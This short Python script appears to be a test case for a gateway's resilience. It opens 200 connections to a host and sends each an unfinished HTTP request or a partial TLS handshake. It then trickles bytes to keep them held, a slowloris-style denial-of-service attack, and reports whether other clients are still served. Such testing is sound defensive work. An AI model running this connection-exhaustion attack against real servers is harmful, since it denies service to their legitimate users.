# SPDX-License-Identifier: Apache-2.0
# Trick: requests and handshakes that never end, many at a time
# Gain: nobody else is served
# Control: none, it is aimed at the gate
from trick import *

look_up("paths.example.com")
held = []
for i in range(200):
    s = tcp(PATHS, 80 if i % 2 else 443, 1)
    if s:
        say(s, b"GET /ok/1 HTTP/1.1\r\nHost: paths" if i % 2 else b"\x16\3\1\2\0\1\0")
        held.append(s)
for _ in range(3):
    for s in held:
        try:
            s.send(b"x")
        except OSError:
            pass
if not alive(10):
    escaped("nobody else is served")
stopped(f"{len(held)} wait, and others are served")
